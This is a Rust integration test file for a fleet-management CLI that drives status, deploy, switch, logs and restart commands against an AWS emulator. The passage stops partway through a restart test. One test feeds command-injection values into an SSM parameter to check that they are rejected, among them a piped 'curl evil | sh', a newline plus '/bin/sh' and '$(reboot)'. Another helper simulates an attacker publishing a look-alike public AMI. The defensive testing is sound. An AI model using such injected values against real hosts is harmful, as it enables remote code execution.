//! fleet status, deploy and switch against the emulator: instances made
//! with run-instances, a stand-in `tofu` that records its calls and
//! creates or replaces instances the way the real apply would, and SSM
//! invocations whose outcome the test chooses (shim switches).

use std::path::PathBuf;

use aws_sdk_ec2::types::{ResourceType, Tag, TagSpecification};
use serde_json::{json, Value};
use testkit::env::{env, Env};

const REV: &str = "0123456789abcdef0123456789abcdef01234567";
const OLD_REV: &str = "89abcdef0123456789abcdef0123456789abcdef";

/// A registry of `n` instances, t3.large each.
fn registry(env: &Env, n: usize) -> PathBuf {
    let path = env.path("nix/instances.json");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    testkit::fixtures::write_registry(&path, n).unwrap();
    path
}

/// A fleet AMI (tag clawdinator=true), available.
async fn fleet_ami(env: &Env, name: &str) -> String {
    let ec2 = env.aws.ec2();
    let volume = ec2.create_volume().availability_zone("us-east-1a").size(8).send().await.unwrap();
    let snap = ec2.create_snapshot().volume_id(volume.volume_id().unwrap()).send().await.unwrap();
    let image = env.register_ami(name, snap.snapshot_id().unwrap(), "/dev/xvda").await;
    ec2.create_tags()
        .resources(&image)
        .tags(Tag::builder().key("clawdinator").value("true").build())
        .send()
        .await
        .unwrap();
    image
}

/// An attacker's AMI: another account's, tagged as a fleet AMI and public.
async fn foreign_fleet_ami(env: &Env) -> String {
    let sts = env.aws.sts();
    let role = sts.assume_role().role_arn("arn:aws:iam::111111111111:role/attacker").role_session_name("attacker");
    let c = role.send().await.unwrap().credentials.unwrap();
    let creds = aws_credential_types::Credentials::new(
        c.access_key_id,
        c.secret_access_key,
        Some(c.session_token),
        None,
        "attacker",
    );
    let ec2 = env.aws.with_credentials(creds).ec2();
    let volume = ec2.create_volume().availability_zone("us-east-1a").size(8).send().await.unwrap();
    let snap = ec2.create_snapshot().volume_id(volume.volume_id().unwrap()).send().await.unwrap();
    let mapping = aws_sdk_ec2::types::BlockDeviceMapping::builder()
        .device_name("/dev/xvda")
        .ebs(aws_sdk_ec2::types::EbsBlockDevice::builder().snapshot_id(snap.snapshot_id().unwrap()).build())
        .build();
    let image = ec2.register_image().name("clawdinator-nixos-evil").root_device_name("/dev/xvda");
    let image = image.block_device_mappings(mapping).send().await.unwrap().image_id.unwrap();
    let tag = Tag::builder().key("clawdinator").value("true").build();
    ec2.create_tags().resources(&image).tags(tag).send().await.unwrap();
    let public =
        aws_sdk_ec2::types::LaunchPermission::builder().group(aws_sdk_ec2::types::PermissionGroup::All).build();
    let permissions = aws_sdk_ec2::types::LaunchPermissionModifications::builder().add(public).build();
    ec2.modify_image_attribute().image_id(&image).launch_permission(permissions).send().await.unwrap();
    // Our account sees it by id, as AWS shows a public AMI.
    let seen = env.aws.ec2().describe_images().image_ids(&image).send().await.unwrap();
    assert_eq!(seen.images().len(), 1, "the shim does not share public AMIs");
    image
}

/// A running fleet instance named `name`.
async fn instance(env: &Env, name: &str, ami: &str, kind: &str, revision: Option<&str>) -> String {
    let mut tags =
        vec![Tag::builder().key("Name").value(name).build(), Tag::builder().key("app").value("clawdinator").build()];
    if let Some(rev) = revision {
        tags.push(Tag::builder().key("clawdinator:deployed-revision").value(rev).build());
    }
    let out = env
        .aws
        .ec2()
        .run_instances()
        .image_id(ami)
        .instance_type(kind.into())
        .min_count(1)
        .max_count(1)
        .tag_specifications(
            TagSpecification::builder().resource_type(ResourceType::Instance).set_tags(Some(tags)).build(),
        )
        .send()
        .await
        .unwrap();
    out.instances()[0].instance_id().unwrap().to_string()
}

fn run(env: &Env, args: &[&str]) -> std::process::Output {
    env.cli(env!("CARGO_BIN_EXE_clawdinator"))
        .args(args)
        .env("CLAWDINATOR_POLL_SECONDS", "0.05")
        .env_remove("CLAWDINATOR_CALLER")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

fn json_of(out: &std::process::Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!("{e}: {}\n{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
    })
}

// ---------------------------------------------------------------- status

#[tokio::test(flavor = "multi_thread")]
async fn status_in_sync_exits_0() {
    let env = env().await;
    let reg = registry(&env, 2);
    let ami = fleet_ami(&env, "fleet-1").await;
    for n in ["clawdinator-1", "clawdinator-2"] {
        instance(&env, n, &ami, "t3.large", Some(REV)).await;
    }
    let out = run(&env, &["--json", "fleet", "status", "--instances", reg.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let report = json_of(&out);
    assert_eq!(report["drift"], json!([]));
    assert_eq!(report["latestAmi"], json!(ami));
    assert_eq!(report["fleetRevision"], json!(REV));
    let rows = report["instances"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    for key in ["id", "name", "state", "instanceType", "ami", "launchTime", "revision", "ssmOnline"] {
        assert!(rows[0].get(key).is_some(), "no {key} in {}", rows[0]);
    }
    assert_eq!(rows[0]["ssmOnline"], json!(true));
}

#[tokio::test(flavor = "multi_thread")]
async fn status_names_every_kind_of_drift_and_exits_3() {
    let env = env().await;
    let reg = registry(&env, 5);
    let old = fleet_ami(&env, "fleet-old").await;
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let ami = fleet_ami(&env, "fleet-new").await;
    instance(&env, "clawdinator-1", &ami, "t3.large", Some(REV)).await; // in sync
    instance(&env, "clawdinator-1", &ami, "t3.large", Some(REV)).await; // duplicate
    instance(&env, "clawdinator-2", &old, "t3.large", Some(REV)).await; // stale AMI
    instance(&env, "clawdinator-3", &ami, "t3.small", Some(REV)).await; // type
    instance(&env, "clawdinator-4", &ami, "t3.large", Some(OLD_REV)).await; // revision
    instance(&env, "stray", &ami, "t3.large", Some(REV)).await; // unknown; clawdinator-5 missing
    env.emulator.switch("ssm-agent", json!({"name": "clawdinator-3", "online": false})).unwrap();
    let out = run(&env, &["--json", "fleet", "status", "--instances", reg.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "{}", String::from_utf8_lossy(&out.stderr));
    let report = json_of(&out);
    let kinds: Vec<&str> = report["drift"].as_array().unwrap().iter().map(|d| d["kind"].as_str().unwrap()).collect();
    for kind in ["missing", "unknown", "duplicate", "stale-ami", "type-mismatch", "revision-mismatch"] {
        assert!(kinds.contains(&kind), "no {kind} in {kinds:?}");
    }
    let missing: Vec<&Value> = report["drift"].as_array().unwrap().iter().filter(|d| d["kind"] == "missing").collect();
    assert_eq!(missing.len(), 1);
    assert_eq!(missing[0]["name"], "clawdinator-5");
    let revision = report["drift"].as_array().unwrap().iter().find(|d| d["kind"] == "revision-mismatch").unwrap();
    assert_eq!((revision["name"].as_str(), revision["fleet"].as_str()), (Some("clawdinator-4"), Some(REV)));
    let offline = report["instances"].as_array().unwrap().iter().find(|i| i["name"] == "clawdinator-3").unwrap();
    assert_eq!(offline["ssmOnline"], json!(false));

    // The table says the same to a person.
    let text = run(&env, &["fleet", "status", "--instances", reg.to_str().unwrap()]);
    assert_eq!(text.status.code(), Some(3));
    let stdout = String::from_utf8_lossy(&text.stdout);
    assert!(
        stdout.contains("NAME") && stdout.contains("missing: clawdinator-5") && stdout.contains("stale AMI"),
        "{stdout}"
    );
}

// ---------------------------------------------------------------- deploy

/// A module directory whose ../../../nix/instances.json is the test's registry.
fn module_dir(env: &Env) -> PathBuf {
    let dir = env.path("infra/opentofu/aws");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn deploy(env: &Env, args: &[&str], extra_env: &[(&str, &str)]) -> (std::process::Output, Vec<Value>) {
    let bin = testkit::env::stand_in_tofu(env.dir.path());
    env.tofu_backend("state-bucket", "clawdinator-terraform-locks");
    let log = env.path("tofu.log");
    let _ = std::fs::remove_file(&log);
    let reg = registry_path(env);
    let chdir = module_dir(env);
    let mut command = env.cli(env!("CARGO_BIN_EXE_clawdinator"));
    command
        .args(["--json", "fleet", "deploy"])
        .args(args)
        .args(["--instances", reg.to_str().unwrap(), "--chdir", chdir.to_str().unwrap()])
        .args(["--backend-bucket", "state-bucket", "--backend-region", "us-east-1", "--healthy-timeout", "20"])
        .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()))
        .env("TOFU_LOG", &log)
        .env("CLAWDINATOR_POLL_SECONDS", "0.05")
        .env_remove("CLAWDINATOR_CALLER")
        .stdin(std::process::Stdio::null());
    for (k, v) in extra_env {
        command.env(k, v);
    }
    let out = command.output().unwrap();
    let calls =
        std::fs::read_to_string(&log).unwrap_or_default().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    (out, calls)
}

fn registry_path(env: &Env) -> PathBuf {
    env.path("nix/instances.json")
}

fn args_of(call: &Value) -> Vec<String> {
    call["args"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().to_string()).collect()
}

async fn live_ids(env: &Env, name: &str) -> Vec<String> {
    let out = env
        .aws
        .ec2()
        .describe_instances()
        .filters(aws_sdk_ec2::types::Filter::builder().name("tag:Name").values(name).build())
        .filters(aws_sdk_ec2::types::Filter::builder().name("instance-state-name").values("running").build())
        .send()
        .await
        .unwrap();
    out.reservations().iter().flat_map(|r| r.instances()).map(|i| i.instance_id().unwrap().to_string()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn targets_are_checked_and_an_instance_never_deploys_itself() {
    let env = env().await;
    registry(&env, 2);
    fleet_ami(&env, "fleet-1").await;
    for (args, envs, says) in [
        (vec!["clawdinator-9"], vec![], "clawdinator-9"),
        (vec!["clawdinator-1", "--caller", "clawdinator-1"], vec![], "deploy itself"),
        (vec!["all", "--caller", "clawdinator-2"], vec![], "`all` includes it"),
        (vec!["clawdinator-2"], vec![("CLAWDINATOR_CALLER", "clawdinator-2")], "deploy itself"),
        (vec!["all", "clawdinator-1"], vec![], "give `all` alone"),
        (vec!["all"], vec![], "pass --yes"),
    ] {
        let (out, calls) = deploy(&env, &args, &envs);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(says), "{args:?}: {stderr}");
        assert!(calls.is_empty(), "{args:?}: tofu ran");
    }
    let out = run(&env, &["fleet", "deploy"]);
    assert_eq!(out.status.code(), Some(2), "a target is required");
}

#[tokio::test(flavor = "multi_thread")]
async fn one_target_is_replaced_with_the_exact_tofu_calls() {
    let env = env().await;
    registry(&env, 2);
    let ami = fleet_ami(&env, "fleet-1").await;
    let old1 = instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
    let old2 = instance(&env, "clawdinator-2", &ami, "t3.large", None).await;
    let chdir = format!("-chdir={}", module_dir(&env).display());

    let (dry, calls) = deploy(&env, &["clawdinator-2", "--dry-run"], &[]);
    assert!(dry.status.success(), "{}", String::from_utf8_lossy(&dry.stderr));
    assert!(calls.is_empty(), "--dry-run ran tofu");
    let shown: Vec<String> = json_of(&dry)["invocations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["args"].as_array().unwrap().iter().map(|a| a.as_str().unwrap()).collect::<Vec<_>>().join(" "))
        .collect();
    assert_eq!(shown.len(), 2, "{shown:?}");

    let (out, calls) = deploy(&env, &["clawdinator-2"], &[("TF_VAR_extra", "x")]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(calls.len(), 2, "{calls:?}");
    assert_eq!(
        args_of(&calls[0]),
        [
            chdir.as_str(),
            "init",
            "-input=false",
            "-backend-config=bucket=state-bucket",
            "-backend-config=key=tfstate/fleet.tfstate",
            "-backend-config=region=us-east-1",
            "-backend-config=dynamodb_table=clawdinator-terraform-locks",
        ]
    );
    assert_eq!(
        args_of(&calls[1]),
        [
            chdir.as_str(),
            "apply",
            "-input=false",
            "-auto-approve",
            "-lock-timeout=30m",
            &format!("-var=ami_id={ami}"),
            "-replace=aws_instance.clawdinator[\"clawdinator-2\"]"
        ]
    );
    assert_eq!(calls[1]["env"]["TF_IN_AUTOMATION"], "1");
    assert_eq!(calls[1]["env"]["TF_VAR_extra"], "x");
    assert_eq!(shown[1], args_of(&calls[1]).join(" "), "the dry run showed another call");
    assert_eq!(live_ids(&env, "clawdinator-1").await, [old1], "the other instance was touched");
    let now = live_ids(&env, "clawdinator-2").await;
    assert!(now.len() == 1 && now[0] != old2, "{now:?}");
    assert_eq!(json_of(&out)["deployed"], json!([["clawdinator-2", now[0]]]));
}

#[tokio::test(flavor = "multi_thread")]
async fn all_rolls_one_at_a_time_creating_missing_ones_first() {
    let env = env().await;
    registry(&env, 3);
    let ami = fleet_ami(&env, "fleet-1").await;
    instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
    instance(&env, "clawdinator-3", &ami, "t3.large", None).await;
    let (out, calls) = deploy(&env, &["all", "--yes"], &[]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let applies: Vec<String> = calls.iter().skip(1).map(|c| args_of(c).last().unwrap().clone()).collect();
    assert_eq!(
        applies,
        [
            "-target=aws_instance.clawdinator[\"clawdinator-2\"]",
            "-replace=aws_instance.clawdinator[\"clawdinator-1\"]",
            "-replace=aws_instance.clawdinator[\"clawdinator-3\"]",
        ]
    );
    for n in 1..=3 {
        assert_eq!(live_ids(&env, &format!("clawdinator-{n}")).await.len(), 1);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_deploy_of_one_creates_the_registry_instances_ec2_lacks_first() {
    let env = env().await;
    registry(&env, 3);
    let ami = fleet_ami(&env, "fleet-1").await;
    instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
    let (out, calls) = deploy(&env, &["clawdinator-1"], &[]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let applies: Vec<Vec<String>> = calls.iter().skip(1).map(|c| args_of(c)[6..].to_vec()).collect();
    assert_eq!(
        applies,
        [
            vec![
                "-target=aws_instance.clawdinator[\"clawdinator-2\"]".to_string(),
                "-target=aws_instance.clawdinator[\"clawdinator-3\"]".to_string()
            ],
            vec!["-replace=aws_instance.clawdinator[\"clawdinator-1\"]".to_string()],
        ]
    );
}

/// `--missing` creates only what EC2 lacks, replaces nothing, and once
/// every instance exists runs no tofu at all (a re-run does nothing).
#[tokio::test(flavor = "multi_thread")]
async fn missing_creates_only_what_ec2_lacks_and_then_runs_nothing() {
    let env = env().await;
    registry(&env, 2);
    let ami = fleet_ami(&env, "fleet-1").await;
    let first = instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
    let (out, calls) = deploy(&env, &["--missing"], &[]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let applies: Vec<Vec<String>> = calls.iter().skip(1).map(|c| args_of(c)[6..].to_vec()).collect();
    assert_eq!(applies, [vec!["-target=aws_instance.clawdinator[\"clawdinator-2\"]".to_string()]]);
    assert_eq!(live_ids(&env, "clawdinator-1").await, [first], "--missing replaced an instance");
    let (again, calls) = deploy(&env, &["--missing"], &[]);
    assert!(again.status.success(), "{}", String::from_utf8_lossy(&again.stderr));
    assert!(calls.is_empty(), "tofu ran with nothing to create: {calls:?}");
    assert_eq!(json_of(&again)["invocations"], json!([]));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_roll_stops_at_the_first_unhealthy_instance_and_a_rerun_after_the_fix_completes_it() {
    let env = env().await;
    registry(&env, 2);
    let ami = fleet_ami(&env, "fleet-1").await;
    instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
    let second = instance(&env, "clawdinator-2", &ami, "t3.large", None).await;
    env.emulator.switch("instance-health", json!({"name": "clawdinator-1", "status": "impaired"})).unwrap();
    let (out, calls) = deploy(&env, &["all", "--yes"], &[]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("clawdinator-1") && stderr.contains("status checks") && stderr.contains("left as they are"),
        "{stderr}"
    );
    assert_eq!(calls.len(), 2, "tofu went on after the canary failed: {calls:?}");
    assert_eq!(live_ids(&env, "clawdinator-2").await, std::slice::from_ref(&second));

    // A failed apply stops the roll too, naming the call.
    env.emulator.switch("instance-health", json!({"name": "clawdinator-1", "status": "ok"})).unwrap();
    let (out, calls) = deploy(&env, &["all", "--yes"], &[("TOFU_FAIL", "1")]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("-replace=aws_instance.clawdinator[\"clawdinator-1\"]"));
    assert_eq!(calls.len(), 2);
    // Once the cause is fixed, a re-run rolls the whole fleet: one running
    // instance per name, the untouched one replaced this time.
    let (out, calls) = deploy(&env, &["all", "--yes"], &[]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let applies: Vec<String> = calls.iter().skip(1).map(|c| args_of(c).last().unwrap().clone()).collect();
    assert_eq!(
        applies,
        [
            "-replace=aws_instance.clawdinator[\"clawdinator-1\"]",
            "-replace=aws_instance.clawdinator[\"clawdinator-2\"]"
        ]
    );
    assert_eq!(live_ids(&env, "clawdinator-1").await.len(), 1);
    let now = live_ids(&env, "clawdinator-2").await;
    assert!(now.len() == 1 && now != [second], "{now:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_ami_override_must_be_an_available_fleet_ami() {
    let env = env().await;
    registry(&env, 1);
    fleet_ami(&env, "fleet-1").await;
    let pending = fleet_ami(&env, "fleet-pending").await;
    env.emulator.set_image_state(&pending, "pending").unwrap();
    let foreign = foreign_fleet_ami(&env).await;
    for (ami, says) in [
        ("ami-0123456789abcdef0", "does not exist"),
        (pending.as_str(), "not available"),
        (foreign.as_str(), "belongs to account 111111111111, not this one"),
    ] {
        let (out, calls) = deploy(&env, &["clawdinator-1", "--ami", ami], &[]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{ami}: {stderr}");
        assert!(stderr.contains(says), "{ami}: {stderr}");
        assert!(calls.is_empty());
    }
}

// ---------------------------------------------------------------- switch

fn switch(env: &Env, args: &[&str]) -> std::process::Output {
    let reg = registry_path(env);
    let fleet = ["--instances", reg.to_str().unwrap(), "--bucket", &env.bucket];
    run(env, &[&["--json", "fleet", "switch"], args, &fleet].concat())
}

/// clawdinator-N's system in the release of REV.
fn system_of(n: usize) -> String {
    format!("/nix/store/{n}{}-nixos-system-clawdinator-{n}-26.05", "a".repeat(31))
}

/// The release manifest `release build` would have written for REV.
async fn release_of(env: &Env, n: usize) {
    let hosts: Vec<(String, String)> = (1..=n).map(|i| (format!("clawdinator-{i}"), system_of(i))).collect();
    let hosts: Vec<(&str, &str)> = hosts.iter().map(|(n, s)| (n.as_str(), s.as_str())).collect();
    crate::host::switch::put_release(env, REV, &hosts).await;
}

/// The switches sent over the wire, in order: (instance ids, the system
/// parameter of the `clawdinator-switch` document).
async fn commands_sent(env: &Env) -> Vec<(String, Vec<String>)> {
    let requests = env.emulator.recorded_requests().unwrap();
    requests
        .iter()
        .filter_map(|r| serde_json::from_str::<Value>(r["body"].as_str()?).ok())
        .filter(|b| b["DocumentName"] == "clawdinator-switch")
        .map(|b| {
            let ids: Vec<&str> = b["InstanceIds"].as_array().unwrap().iter().map(|i| i.as_str().unwrap()).collect();
            let commands =
                b["Parameters"]["system"].as_array().unwrap().iter().map(|c| c.as_str().unwrap().to_string()).collect();
            (ids.join(","), commands)
        })
        .collect()
}

async fn revision_tag(env: &Env, id: &str) -> Option<String> {
    let out = env.aws.ec2().describe_instances().instance_ids(id).send().await.unwrap();
    let instance = &out.reservations()[0].instances()[0];
    instance
        .tags()
        .iter()
        .find(|t| t.key() == Some("clawdinator:deployed-revision"))
        .and_then(|t| t.value())
        .map(String::from)
}

#[tokio::test(flavor = "multi_thread")]
async fn switch_runs_the_host_command_canary_first_and_tags_each_host() {
    let env = env().await;
    registry(&env, 3);
    let ami = fleet_ami(&env, "fleet-1").await;
    let mut ids = Vec::new();
    for n in 1..=3 {
        ids.push(instance(&env, &format!("clawdinator-{n}"), &ami, "t3.large", Some(OLD_REV)).await);
    }
    release_of(&env, 3).await;
    env.emulator
        .switch(
            "ssm-invocation",
            json!({"name": "clawdinator-1", "status": "Success", "pending_polls": 3, "stdout": "{}"}),
        )
        .unwrap();
    env.emulator.start_recording().unwrap();
    let out = switch(&env, &[REV, "--parallel", "2"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let report = json_of(&out);
    assert_eq!(report["waves"], json!([["clawdinator-1"], ["clawdinator-2", "clawdinator-3"]]));
    let sent = commands_sent(&env).await;
    assert_eq!(sent.len(), 3);
    assert_eq!(sent[0].0, ids[0], "the canary went first");
    for (n, (_, systems)) in sent.iter().enumerate() {
        let names_it = sent.iter().position(|(id, _)| id == &ids[n]).map(|i| &sent[i].1);
        assert_eq!(names_it, Some(&vec![system_of(n + 1)]), "each host gets its own system: {systems:?}");
    }
    for id in &ids {
        assert_eq!(revision_tag(&env, id).await.as_deref(), Some(REV));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn switch_stops_at_the_first_failed_host_and_leaves_the_rest() {
    let env = env().await;
    registry(&env, 4);
    let ami = fleet_ami(&env, "fleet-1").await;
    let mut ids = Vec::new();
    for n in 1..=4 {
        ids.push(instance(&env, &format!("clawdinator-{n}"), &ami, "t3.large", Some(OLD_REV)).await);
    }
    release_of(&env, 4).await;
    env.emulator
        .switch("ssm-invocation", json!({"name": "clawdinator-2", "status": "Failed", "code": 1, "stderr": "switch stopped at the health check: clawdinator is failed; rolled back"}))
        .unwrap();
    env.emulator.start_recording().unwrap();
    let out = switch(&env, &[REV]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("clawdinator-2") && stderr.contains("ended Failed") && stderr.contains("rolled back"),
        "{stderr}"
    );
    let sent: Vec<String> = commands_sent(&env).await.into_iter().map(|c| c.0).collect();
    assert_eq!(sent, [ids[0].clone(), ids[1].clone()], "hosts after the failure were touched");
    assert_eq!(revision_tag(&env, &ids[0]).await.as_deref(), Some(REV));
    for id in &ids[1..] {
        assert_eq!(revision_tag(&env, id).await.as_deref(), Some(OLD_REV));
    }
    let report = json_of(&out);
    let outcomes: Vec<&str> =
        report["hosts"].as_array().unwrap().iter().map(|h| h["outcome"].as_str().unwrap()).collect();
    assert_eq!(outcomes, ["switched", "failed", "not-started", "not-started"]);
}

/// `fleet switch` of two hosts through a proxy that does `fault` to the
/// first of every request: each host switched and tagged, each sent its
/// switch exactly once (SendCommand takes no idempotency token).
async fn switch_through(fault: testkit::proxy::Fault) {
    use testkit::proxy::{Proxy, ProxyConfig};
    let env = env().await;
    registry(&env, 2);
    let ami = fleet_ami(&env, "fleet-1").await;
    let mut ids = Vec::new();
    for n in 1..=2 {
        ids.push(instance(&env, &format!("clawdinator-{n}"), &ami, "t3.large", Some(OLD_REV)).await);
    }
    release_of(&env, 2).await;
    let proxy =
        Proxy::start(&env.emulator.endpoint(), ProxyConfig { faults: vec![(fault, 1.0)], ..ProxyConfig::default() })
            .unwrap();
    env.emulator.start_recording().unwrap();
    let reg = registry_path(&env);
    let args = ["--json", "fleet", "switch", REV, "--instances", reg.to_str().unwrap(), "--bucket", &env.bucket];
    let out = env
        .cli(env!("CARGO_BIN_EXE_clawdinator"))
        .args(args)
        .env("AWS_ENDPOINT_URL", proxy.endpoint())
        .env("CLAWDINATOR_POLL_SECONDS", "0.05")
        .env_remove("CLAWDINATOR_CALLER")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(proxy.faults()[&fault] * 2 >= proxy.requests(), "not every request met {fault:?} once");
    let mut sent: Vec<String> = commands_sent(&env).await.into_iter().map(|c| c.0).collect();
    sent.sort();
    let mut want = ids.clone();
    want.sort();
    assert_eq!(sent, want, "each host's switch sent exactly once");
    for id in &ids {
        assert_eq!(revision_tag(&env, id).await.as_deref(), Some(REV));
    }
}

/// Every response lost once, SendCommand's included (carried out, its
/// answer dropped): the switch is found among the host's commands, not
/// sent again.
#[tokio::test(flavor = "multi_thread")]
async fn a_switch_whose_response_was_lost_is_not_sent_again() {
    switch_through(testkit::proxy::Fault::DropAfterForward).await;
}

/// Every request dropped once before it reaches SSM, SendCommand's
/// included: not among the host's commands, so it is sent again, once.
#[tokio::test(flavor = "multi_thread")]
async fn a_switch_that_never_reached_ssm_is_sent_again_once() {
    switch_through(testkit::proxy::Fault::DropBeforeForward).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_with_zero_or_two_instances_stops_the_switch_before_anything_runs() {
    let env = env().await;
    registry(&env, 2);
    let ami = fleet_ami(&env, "fleet-1").await;
    instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
    env.emulator.start_recording().unwrap();
    // No release built for REV: named, nothing sent.
    let out = switch(&env, &[REV]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains(&format!("releases/{REV}.json does not exist")), "{stderr}");
    release_of(&env, 2).await;
    let out = switch(&env, &[REV]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("clawdinator-2: no running instance"));
    let a = instance(&env, "clawdinator-2", &ami, "t3.large", None).await;
    let b = instance(&env, "clawdinator-2", &ami, "t3.large", None).await;
    let out = switch(&env, &[REV]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("2 running instances") && stderr.contains(&a) && stderr.contains(&b), "{stderr}");
    assert!(commands_sent(&env).await.is_empty(), "a command was sent");
    let bad = switch(&env, &["main"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("not a full git revision"));
}

/// CI reaches a host only through the fleet's SSM documents: the switch's
/// runs one fixed command, and SSM itself refuses a parameter that is not
/// a NixOS system's store path, so shell text never reaches the host.
#[tokio::test(flavor = "multi_thread")]
async fn the_switch_document_takes_only_a_systems_store_path() {
    let env = env().await;
    let document = std::fs::read_to_string(testkit::repo_root().join("infra/opentofu/aws/ssm/switch.json")).unwrap();
    let document: Value = serde_json::from_str(&document).unwrap();
    assert_eq!(
        document["parameters"]["system"]["allowedPattern"],
        "^/nix/store/[0-9a-z]{32}-nixos-system-[A-Za-z0-9._+-]+$"
    );
    let steps = document["mainSteps"].as_array().unwrap();
    assert_eq!(steps.len(), 1);
    assert_eq!(
        steps[0]["inputs"]["runCommand"],
        json!(["/run/current-system/sw/bin/clawdinator host switch {{ system }} --json"])
    );
    let ami = fleet_ami(&env, "fleet-1").await;
    let id = instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
    let good = system_of(1);
    for (system, accepted) in [
        (good.as_str(), true),
        (&format!("{good}; curl evil | sh") as &str, false),
        (&format!("{good}\n/bin/sh"), false),
        ("/tmp/1aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-nixos-system-x", false),
        ("/nix/store/1aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-hello", false),
        (REV, false),
        ("$(reboot)", false),
    ] {
        let sent = env
            .aws
            .ssm()
            .send_command()
            .document_name("clawdinator-switch")
            .instance_ids(&id)
            .parameters("system", vec![system.to_string()])
            .send()
            .await;
        match sent {
            Ok(_) => assert!(accepted, "SSM ran the switch with {system:?}"),
            Err(e) => {
                assert!(!accepted, "{system}: {e:?}");
                assert!(format!("{e:?}").contains("InvalidParameters"), "{e:?}");
            }
        }
    }
}

// ---------------------------------------------------------------- logs and restart

/// The parameters each `clawdinator-<document>` command carried on the wire.
async fn parameters_sent(env: &Env, document: &str) -> Vec<Value> {
    let requests = env.emulator.recorded_requests().unwrap();
    requests
        .iter()
        .filter_map(|r| serde_json::from_str::<Value>(r["body"].as_str()?).ok())
        .filter(|b| b["DocumentName"] == document)
        .map(|b| b["Parameters"].clone())
        .collect()
}

/// With SSH off, an operator reads a host's journal and restarts a unit:
/// each through its document, the host's output printed; a failed restart
/// fails the command with the host's reason.
#[tokio::test(flavor = "multi_thread")]
async fn logs_and_restart_reach_one_host_through_their_documents() {
    let env = env().await;
    let reg = registry(&env, 2);
    let reg = reg.to_str().unwrap();
    let ami = fleet_ami(&env, "fleet-1").await;
    instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
    let id = instance(&env, "clawdinator-2", &ami, "t3.large", None).await;
    let journal = "2026-12-02T10:00:00+0000 clawdinator-2 openclaw[812]: gateway listening on 127.0.0.1:18789\n";
    env.emulator
        .switch("ssm-invocation", json!({"name": "clawdinator-2", "status": "Success", "stdout": journal}))
        .unwrap();
    env.emulator.start_recording().unwrap();
    let out = run(&env, &["fleet", "logs", "clawdinator-2", "--since", "2h", "--lines", "50", "--instances", reg]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stdout), journal);
    assert_eq!(
        parameters_sent(&env, "clawdinator-logs").await,
        [json!({"unit": ["clawdinator"], "since": ["2h"], "lines": ["50"]})]
    );

    let dry = run(&env, &["--json", "fleet", "restart", "clawdinator-2", "--dry-run", "--instances", reg]);
    assert_eq!(json_of(&dry)["instanceId"], id.as_str());
    assert!(parameters_sent(&env, "clawdinator-restart").await.is_empty(), "a dry run restarted");
    let unit = ["--unit", "clawdinator-github-app-token"];
    let out = run(&env, &[&["fleet", "restart", "clawdinator-2", "--instances", reg][..], &unit].concat());
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(parameters_sent(&env, "clawdinator-restart").await, [json!({"unit": ["clawdinator-github-app-token"]})]);

    env.emulator
        .switch("ssm-invocation", json!({"name": "clawdinator-2", "status": "Failed", "code": 1, "stderr": "clawdinator is failed after the restart"}))
        .unwrap();
    let out = run(&env, &["fleet", "restart", "clawdinator-2", "--instances", reg]);
